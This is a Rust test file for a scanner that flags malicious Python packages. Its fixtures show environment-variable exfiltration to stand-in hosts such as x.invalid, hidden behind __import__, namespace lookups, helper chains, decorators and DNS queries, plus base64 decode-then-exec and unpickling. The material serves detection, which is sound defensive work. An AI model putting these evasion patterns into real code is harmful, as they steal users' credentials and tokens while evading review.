//! The red team's indirections (RT13): modules and builtins reached by other names,
//! loaders that run files as code, and data flowing between functions and through
//! decorators.

use super::*;

// RT13-06: indirections that reach the same modules and builtins.

fn caps(s: &SourceScan) -> Vec<Capability> {
    s.capabilities.iter().copied().collect()
}

#[test]
fn m1_through_dunder_import_and_dotted_attribute() {
    let s = scan(
        r#"import base64
s = " ".join(__import__("os").environ.values())
__import__("urllib.request").request.urlopen("https://x.invalid/?q=" + base64.b64encode(s.encode()).decode())
"#,
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 3).severity,
        Severity::High
    );
    assert!(
        s.capabilities.contains(&Capability::Network),
        "{:?}",
        caps(&s)
    );
}

#[test]
fn m1_through_namespace_lookups() {
    for env in [
        r#"sys.modules["os"].__dict__["environ"]"#,
        r#"vars(os)["environ"]"#,
        r#"os.__dict__["environ"]"#,
        r#"sys.modules["os"].environ"#,
    ] {
        let src = format!(
            "import os, sys, base64, requests\ns = \" \".join({env}.values())\nglobals()[\"requests\"].get(\"https://x.invalid/\" + base64.b64encode(s.encode()).decode())\n"
        );
        let s = scan(&src);
        assert_eq!(
            finding(&s, Rule::EnvExfiltration, 3).severity,
            Severity::High,
            "{env}"
        );
        assert!(
            s.capabilities.contains(&Capability::EnvironmentRead),
            "{env}: {:?}",
            caps(&s)
        );
    }
}

#[test]
fn m3_through_builtins_lookups() {
    for exec in [
        r#"sys.modules['builtins'].exec"#,
        r#"__builtins__.__dict__['exec']"#,
        r#"__builtins__['exec']"#,
        r#"vars(builtins)['exec']"#,
    ] {
        let src =
            format!("import sys, base64, builtins\n{exec}(base64.b64decode('cHJpbnQoMSk='))\n");
        let s = scan(&src);
        assert_eq!(
            finding(&s, Rule::DecodeExec, 2).severity,
            Severity::High,
            "{exec}"
        );
        assert!(s.capabilities.contains(&Capability::DynamicCode), "{exec}");
    }
}

#[test]
fn m3_unpickling_decoded_data() {
    for m in ["pickle", "dill", "marshal"] {
        let s = scan(&format!(
            "import base64, {m}\n{m}.loads(base64.b64decode('gASVAAAA'))\n"
        ));
        assert_eq!(
            finding(&s, Rule::DecodeExec, 2).severity,
            Severity::High,
            "{m}"
        );
    }
    let s =
        scan("import base64, pickle\nd = base64.b64decode('gASVAAAA')\nobj = pickle.loads(d)\n");
    assert_eq!(finding(&s, Rule::DecodeExec, 3).severity, Severity::High);
    // Unpickling a file the package wrote, or a queue's answer, is not decode-to-code (anyio);
    // nor is marshal.load of a .pyc (coverage's execfile).
    assert_quiet(&scan(
        "import pickle\nwith open('c.pkl', 'rb') as f:\n    pickle.loads(f.read())\n",
    ));
    assert_quiet(&scan(
        "import pickle\ndef call(q):\n    res = q.get()\n    if res:\n        res = pickle.loads(res)\n    return res\n",
    ));
    assert_quiet(&scan(
        "import marshal\ndef code_of(p):\n    with open(p, 'rb') as f:\n        f.read(16)\n        code = marshal.load(f)\n    return code\ndef run(p, g):\n    exec(code_of(p), g)\n",
    ));
}

#[test]
fn dns_lookup_of_environment_is_network() {
    let s = scan(
        r#"import os, socket
for v in os.environ.values():
    socket.gethostbyname(v.encode().hex() + ".x.invalid")
"#,
    );
    assert!(
        s.capabilities.contains(&Capability::Network),
        "{:?}",
        caps(&s)
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 3).severity,
        Severity::High
    );
}

#[test]
fn m1_through_attributes_bound_on_the_class_and_self() {
    let s = scan(
        r#"import os, base64, requests
class C:
    env = os.environ
    def __init__(self):
        self.send = requests.post
    def go(self):
        data = base64.b64encode(str(dict(self.env)).encode())
        self.send("https://x.invalid/", data=data)
"#,
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 8).severity,
        Severity::High
    );
}

// RT13-03: loaders run files as code.

#[test]
fn loaders_are_dynamic_code_and_name_their_files() {
    for (src, file) in [
        (
            "import os, runpy\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'cfg.dat'))\n",
            "cfg.dat",
        ),
        (
            "import importlib.machinery\nimportlib.machinery.SourceFileLoader('m', 'pkg/data.txt').exec_module(None)\n",
            "data.txt",
        ),
        (
            "import importlib.util as u\np = __file__.replace('mod.py', 'x.bin')\nspec = u.spec_from_file_location('x', p)\nspec.loader.exec_module(u.module_from_spec(spec))\n",
            "x.bin",
        ),
        (
            "import zipimport\nzipimport.zipimporter('bundle.zip').load_module('m')\n",
            "bundle.zip",
        ),
    ] {
        let s = scan(src);
        assert!(
            s.capabilities.contains(&Capability::DynamicCode),
            "{src}: {:?}",
            caps(&s)
        );
        assert!(s.loaded_files.contains(file), "{src}: {:?}", s.loaded_files);
    }
}

// RT13-02: data flows between functions.

#[test]
fn m1_across_functions_of_one_file() {
    let s = scan(
        r#"import os, base64, requests
def collect():
    return " ".join(os.environ.values())
def enc(s):
    return base64.b64encode(s.encode()).decode()
def send(d):
    requests.get("https://x.invalid/?q=" + d)
class Ctx(dict):
    def __init__(self):
        send(enc(collect()))
"#,
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 10).severity,
        Severity::High
    );
}

#[test]
fn m1_through_a_chain_of_senders() {
    let s = scan(
        r#"import os, requests
def post(d):
    requests.post("https://x.invalid/", data=d)
def send(d):
    post(d)
def main():
    send(os.environ.get("AWS_SECRET_ACCESS_KEY"))
"#,
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 7).severity,
        Severity::Medium
    );
}

#[test]
fn proxy_from_environment_through_a_helper_is_not_m1() {
    // B3: the environment configures the client, it is not what is sent.
    assert_quiet(&scan(
        r#"import os, requests
def fetch(url, proxy):
    return requests.get(url, proxies={"https": proxy})
fetch("https://example.org/", os.environ.get("HTTPS_PROXY"))
"#,
    ));
}

#[test]
fn m1_a_decorator_that_sends_what_the_function_returns() {
    let s = scan(
        r#"import os, requests
def report(fn):
    def wrapper(*a, **kw):
        r = fn(*a, **kw)
        requests.post("https://collector.invalid/r", data=r, timeout=3)
        return r
    return wrapper

@report
def collect():
    return dict(os.environ)
"#,
    );
    assert_finding(&s, Rule::EnvExfiltration, Severity::High, 9, "@report");
    // One named value: medium, as sending it directly would be.
    let s = scan(
        r#"import os, requests
def report(fn):
    def wrapper():
        requests.post("https://collector.invalid/r", json={"v": fn()})
    return wrapper

@report
def token():
    return os.environ.get("CI_JOB_TOKEN")
"#,
    );
    assert_finding(&s, Rule::EnvExfiltration, Severity::Medium, 7, "@report");
}

#[test]
fn m1_a_decorator_factory_and_a_decorator_that_sends_at_once() {
    let s = scan(
        r#"import os, base64, urllib.request
def telemetry(url):
    def deco(fn):
        def wrapper():
            out = fn()
            blob = base64.b64encode(str(out).encode())
            urllib.request.urlopen(url + blob.decode())
            return out
        return wrapper
    return deco

@telemetry("https://t.invalid/?d=")
def environment():
    return os.environ.copy()
"#,
    );
    assert_finding(
        &s,
        Rule::EnvExfiltration,
        Severity::High,
        12,
        "@telemetry(\"https://t.invalid/?d=\")",
    );
    let s = scan(
        r#"import os, requests
def register(fn):
    requests.post("https://x.invalid/", data=fn())
    return fn

@register
def settings():
    return {k: v for k, v in os.environ.items()}
"#,
    );
    assert_eq!(
        finding(&s, Rule::EnvExfiltration, 6).severity,
        Severity::High
    );
}

#[test]
fn decorators_that_time_cache_or_send_other_things_are_quiet() {
    // Sends a timing, not the result; the wrapped function reads the environment.
    let s = scan(
        r#"import os, time, requests
def timed(fn):
    def wrapper(*a):
        t = time.time()
        r = fn(*a)
        requests.post("https://metrics.invalid/", json={"ms": time.time() - t})
        return r
    return wrapper

@timed
def home():
    return os.environ.get("HOME")
"#,
    );
    assert!(
        !s.findings.iter().any(|f| f.rule == Rule::EnvExfiltration),
        "{:#?}",
        s.findings
    );
    // Sends the result, but the function returns nothing of the environment.
    let s = scan(
        r#"import requests
def remote_cache(fn):
    def wrapper(*a):
        r = fn(*a)
        requests.put("https://cache.invalid/k", data=r)
        return r
    return wrapper

@remote_cache
def compute(x):
    return x * 2
"#,
    );
    assert_quiet(&s);
}
